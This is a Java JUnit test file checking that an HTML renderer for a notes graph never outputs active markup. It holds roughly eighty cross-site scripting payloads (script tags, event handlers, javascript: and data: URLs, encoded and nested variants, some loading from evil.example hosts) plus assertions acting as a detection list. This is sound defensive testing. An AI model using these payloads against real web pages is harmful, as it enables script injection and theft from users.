package dev.draehi.render;

import static org.assertj.core.api.Assertions.assertThat;

import dev.draehi.model.Block;
import dev.draehi.model.Graph;
import dev.draehi.model.GraphConfig;
import dev.draehi.model.Page;
import dev.draehi.spi.RenderContext;
import dev.draehi.spi.RenderedPage;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.stream.Stream;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** Attacker-controlled graph text must never produce active markup. */
class XssTest {
    static final List<String> VECTORS =
            List.of(
                    "<script>alert(1)</script>",
                    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
                    "<script>alert(1)",
                    "<scr<script>ipt>alert(1)</scr</script>ipt>",
                    "<img src=x onerror=alert(1)>",
                    "<img src=\"x\" onerror=\"alert(1)\"/>",
                    "<IMG SRC=javascript:alert('XSS')>",
                    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
                    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
                    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61>",
                    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
                    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
                    "<svg onload=alert(1)>",
                    "<svg><script>alert(1)</script></svg>",
                    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
                    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
                    "<math href=\"javascript:alert(1)\">click</math>",
                    "<body onload=alert(1)>",
                    "<div onmouseover=\"alert(1)\">hover</div>",
                    "<a href=\"javascript:alert(1)\">x</a>",
                    "<a href=\"  javascript:alert(1)\">x</a>",
                    "<a href=\"java&#x0A;script:alert(1)\">x</a>",
                    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
                    "<a href=\"vbscript:msgbox(1)\">x</a>",
                    "<a href=x onclick=alert(1)>x</a>",
                    "<iframe src=\"javascript:alert(1)\"></iframe>",
                    "<iframe src=\"https://evil.example.com/\"></iframe>",
                    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
                    "<iframe src=\"https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ\" onload=alert(1)></iframe>",
                    "<object data=\"javascript:alert(1)\"></object>",
                    "<embed src=\"javascript:alert(1)\">",
                    "<base href=\"https://evil.example.com/\">",
                    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
                    "<link rel=stylesheet href=\"https://evil.example.com/x.css\">",
                    "<style>body{background:url(javascript:alert(1))}</style>",
                    "<div style=\"width:expression(alert(1))\">x</div>",
                    "<div style=\"background-image:url(javascript:alert(1))\">x</div>",
                    "<form action=\"javascript:alert(1)\"><input type=submit></form>",
                    "<button formaction=\"javascript:alert(1)\">x</button>",
                    "<input onfocus=alert(1) autofocus>",
                    "<details open ontoggle=alert(1)>",
                    "<video><source onerror=\"alert(1)\"></video>",
                    "<video src=x onerror=alert(1)></video>",
                    "<audio src=x onerror=alert(1)>",
                    "<marquee onstart=alert(1)>x</marquee>",
                    "<table background=\"javascript:alert(1)\">",
                    "<img \"\"\"><script>alert(1)</script>\">",
                    "<<script>alert(1);//<</script>",
                    "<img src=`x`onerror=alert(1)>",
                    "<a href=\"#\" onclick=\"alert(1)\">x</a>",
                    "\"><script>alert(1)</script>",
                    "'><img src=x onerror=alert(1)>",
                    "</p><script>alert(1)</script><p>",
                    "<!--<script>alert(1)</script>-->",
                    "<![CDATA[<script>alert(1)</script>]]>",
                    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                    "<template><script>alert(1)</script></template>",
                    "<isindex action=javascript:alert(1) type=image>",
                    "<span class=\"page-reference\" onclick=alert(1)>x</span>",
                    "[x](javascript:alert(1))",
                    "[x](JAVASCRIPT:alert(1))",
                    "[x](javascript&#58;alert(1))",
                    "[x](data:text/html,<script>alert(1)</script>)",
                    "![x](javascript:alert(1))",
                    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
                    "[x](<javascript:alert(1)>)",
                    "<javascript:alert(1)>",
                    "[a](vbscript:msgbox(1))",
                    "{{video javascript:alert(1)}}",
                    "{{video https://evil.example.com/\"onload=\"alert(1)}}",
                    "{{youtube \"><script>alert(1)</script>}}",
                    "{{tweet javascript:alert(1)}}",
                    "{{twitter data:text/html,<script>alert(1)</script>}}",
                    "[:div {:on-click \"alert(1)\"} \"x\"]",
                    "[:script \"alert(1)\"]",
                    "[:a {:href \"javascript:alert(1)\"} \"x\"]",
                    "```\"><script>alert(1)</script>\nx\n```",
                    "#+BEGIN_SRC \"><script>alert(1)</script>\nx\n#+END_SRC",
                    "#+BEGIN_EXPORT html\n<script>alert(1)</script>\n#+END_EXPORT",
                    "$<script>alert(1)</script>$",
                    "==<img src=x onerror=alert(1)>==");

    /** Each vector placed where graph text can reach: raw, and inside every construct. */
    static Stream<String> placements() {
        List<String> out = new ArrayList<>();
        for (String v : VECTORS) {
            String line = v.replace("\n", " ");
            out.add(v);
            out.add("[[" + line + "]]");
            out.add("#[[" + line + "]]");
            out.add("#" + line.replace(" ", ""));
            out.add("[" + line + "]([[Page]])");
            out.add("[" + line + "](https://example.com)");
            out.add("[x](" + line + ")");
            out.add("{{" + line + "}}");
            out.add("{{cloze " + line + "}}");
            out.add("{{evil " + line + "}}");
            out.add("{{query \"" + line + "\"}}");
            out.add("text\nprop:: " + line);
            out.add("text\ntags:: " + line);
        }
        return out.stream();
    }

    private static final HtmlPageRenderer RENDERER = HtmlPageRenderer.create();
    private static final RenderContext CONTEXT = TestGraph.context();

    @Test
    void hasAtLeastSixtyVectors() {
        assertThat(VECTORS).hasSizeGreaterThanOrEqualTo(60);
    }

    @ParameterizedTest
    @MethodSource("placements")
    void graphTextNeverBecomesActiveMarkup(String source) {
        Block block = TestBlocks.md(source);
        String html = RENDERER.renderBlock(block, TestGraph.currentPage(CONTEXT), CONTEXT);
        assertSafe(html, source);
        String org =
                RENDERER.renderBlock(
                        TestBlocks.block(source, Block.Format.ORG),
                        TestGraph.currentPage(CONTEXT),
                        CONTEXT);
        assertSafe(org, source);
    }

    /**
     * Pages named like the vectors: references, embeds, namespaces and queries show their names.
     */
    @Test
    void hostilePageNamesAreInert() {
        List<Page> pages = new ArrayList<>();
        StringBuilder refs = new StringBuilder();
        for (String v : VECTORS) {
            String name = v.replace("\n", " ").replace("]]", "");
            pages.add(TestGraph.page(name, TestBlocks.md("TODO inside " + name.replace("[[", ""))));
            pages.add(TestGraph.page("ns/" + name));
            refs.append("[[").append(name).append("]] ");
        }
        Page home =
                TestGraph.page(
                        "Home",
                        TestBlocks.md(refs.toString()),
                        TestBlocks.md("{{namespace ns}}"),
                        TestBlocks.md("{{query (task TODO)}}"));
        pages.add(home);
        for (String v : VECTORS.subList(0, 20)) {
            String name = v.replace("\n", " ").replace("]]", "");
            pages.add(
                    TestGraph.page(
                            "E " + pages.size(), TestBlocks.md("{{embed [[" + name + "]]}}")));
        }
        Graph graph =
                new Graph(
                        "0".repeat(40),
                        new GraphConfig(null, true, "MMM do, yyyy", true, Map.of()),
                        pages,
                        Map.of(),
                        List.of());
        RenderContext ctx =
                new RenderContext(graph, TestGraph.workspace(), TestGraph.resolver(graph));
        for (Page p : graph.pages()) {
            RenderedPage rendered = RENDERER.render(p, ctx);
            for (String html : rendered.blockHtml()) {
                assertSafe(html, p.name());
            }
        }
    }

    static void assertSafe(String html, String source) {
        Document doc = Jsoup.parseBodyFragment(html);
        assertThat(
                        doc.select(
                                "script, base, meta, object, embed, form, style, link, svg, math, input, button, textarea, template, noscript, frame, frameset, applet"))
                .as("forbidden element in %s -> %s", source, html)
                .isEmpty();
        for (Element e : doc.getAllElements()) {
            for (Attribute a : e.attributes()) {
                String key = a.getKey().toLowerCase(Locale.ROOT);
                assertThat(key)
                        .as("event handler in %s -> %s", source, html)
                        .doesNotStartWith("on");
                assertThat(key).as("style in %s -> %s", source, html).isNotEqualTo("style");
                assertThat(key).isNotIn("srcdoc", "formaction", "xlink:href", "background");
                String value =
                        a.getValue()
                                .replaceAll("[\\s\\u0000-\\u001f]", "")
                                .toLowerCase(Locale.ROOT);
                assertThat(value)
                        .as("script URL in %s -> %s", source, html)
                        .doesNotStartWith("javascript:")
                        .doesNotStartWith("data:")
                        .doesNotStartWith("vbscript:");
            }
            if (e.tagName().equals("iframe")) {
                assertThat(e.attr("src"))
                        .as("iframe host in %s -> %s", source, html)
                        .matches(
                                "https://(www\\.youtube-nocookie\\.com/embed/|player\\.vimeo\\.com/video/|player\\.bilibili\\.com/player\\.html\\?).*");
            }
        }
    }
}
